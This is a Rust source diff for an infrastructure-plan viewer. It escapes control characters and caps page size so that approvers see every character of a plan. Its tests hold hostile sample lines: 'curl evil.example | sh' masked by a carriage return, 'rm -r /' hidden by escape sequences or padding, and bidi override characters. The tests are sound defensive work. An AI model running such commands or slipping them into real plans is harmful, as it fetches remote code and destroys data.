@@ -1,13 +1,33 @@
 //! The text of a plan, cut into the blocks of its resources. Pure.
 //!
-//! *Guarantee.* Every line of the text is in exactly one block or in the rest, in its order, so what a module prints
-//! can move a line to another heading but hides none.
+//! *Guarantee.* Every line of the text is in exactly one block or in the rest, in its order and with every character
+//! shown or written out, so what a module prints can move a line to another heading but hides none.
 
 use knoll_api::run::ChangeAction;
+use knoll_core::visible::visible_line;
 use schemars::JsonSchema;
 use serde::Serialize;
 
-use crate::ansi;
+/// What one page shows of a plan: browsers need seconds for more, and the server hundreds of megabytes.
+const MOST_LINES: usize = 20_000;
+const MOST_BYTES: usize = 2 << 20;
+
+/// The text, as far as a page shows it, and whether that is all of it. A plan that is not shown whole is not approved on
+/// the page.
+#[must_use]
+pub fn shown(text: &str) -> (&str, bool) {
+    let mut end = 0;
+    for line in text.split_inclusive('\n').take(MOST_LINES) {
+        if end + line.len() > MOST_BYTES {
+            break;
+        }
+        end += line.len();
+    }
+    (text.get(..end).unwrap_or_default(), end == text.len())
+}
+
+/// Why a plan is not shown whole.
+pub const TOO_LONG: &str = "The plan is too long for a page. `knoll approve` and `knoll run show` show all of it";
 
 /// How a line of a plan is coloured.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, JsonSchema)]
@@ -89,8 +109,7 @@ fn heading(line: &str) -> Option<(String, String)> {
     // The words of an address have no space but within the key of an instance.
     let (at, _) = HEADINGS.iter().filter_map(|(words, _)| Some((text.find(words)?, *words))).min()?;
     let (address, sentence) = text.split_at_checked(at)?;
-    let plain = |text: &str| ansi::spans(text).into_iter().map(|span| span.text).collect::<String>();
-    Some((plain(address.trim()), plain(sentence.trim())))
+    Some((address.trim().to_owned(), visible_line(sentence.trim())))
 }
 
 /// The action that a sentence tells.
@@ -101,7 +120,7 @@ pub fn action(sentence: &str) -> Option<ChangeAction> {
 }
 
 fn plan_line(line: &str) -> PlanLine {
-    let text: String = ansi::spans(line).into_iter().map(|span| span.text).collect();
+    let text = visible_line(&line.replace('\t', "    "));
     let mark = match text.trim_start() {
         rest if rest.contains("# forces replacement") => PlanMark::Force,
         rest if rest.starts_with("-/+") || rest.starts_with("+/-") => PlanMark::Remove,
@@ -153,6 +172,40 @@ Changes to Outputs:
         assert_eq!(blocks[0].lines[3].mark, PlanMark::Note);
         assert_eq!(rest.iter().filter(|line| line.text.starts_with("Plan:")).count(), 1);
         assert_eq!(rest.last().map(|line| line.mark), Some(PlanMark::Add));
+    }
+
+    /// What followed a carriage return or an escape character was shown in place of what preceded it.
+    #[test]
+    fn a_carriage_return_hid_what_an_approver_had_to_see() {
+        let rows = [
+            (
+                "      curl evil.example | sh #\r# sets the hostname",
+                "      curl evil.example | sh #\\r# sets the hostname",
+            ),
+            ("  + a = \u{1b}]0;hidden", "  + a = \\u{1b}]0;hidden"),
+            ("  : '\u{9b}8m'; rm -r /", "  : '\\u{9b}8m'; rm -r /"),
+            ("  \u{202e}x\u{0}\u{8}", "  \\u{202e}x\\u{0}\\u{8}"),
+            ("\ta", "    a"),
+        ];
+        for (line, expect) in rows {
+            let (_, rest) = blocks(line);
+            assert_eq!(rest.iter().map(|line| line.text.as_str()).collect::<Vec<_>>(), [expect]);
+        }
+        let (blocks, _) = blocks("  # a.b will be created\rwill be read during apply\n");
+        assert_eq!(blocks[0].sentence, "will be created\\rwill be read during apply");
+    }
+
+    #[test]
+    fn a_long_line_of_a_plan_was_cut_and_could_be_approved() {
+        let line = format!("  + a = \"{}; rm -r /\"", "x".repeat(100_000));
+        let (text, whole) = shown(&line);
+        assert!(whole);
+        assert_eq!(blocks(text).1[0].text, line);
+        let long = "x\n".repeat(MOST_LINES + 1);
+        assert_eq!(shown(&long), (&long[..2 * MOST_LINES], false));
+        let wide = "y".repeat(MOST_BYTES + 1);
+        assert_eq!(shown(&wide), ("", false));
+        assert_eq!(shown("a\n\nb"), ("a\n\nb", true));
     }
 
     #[test]
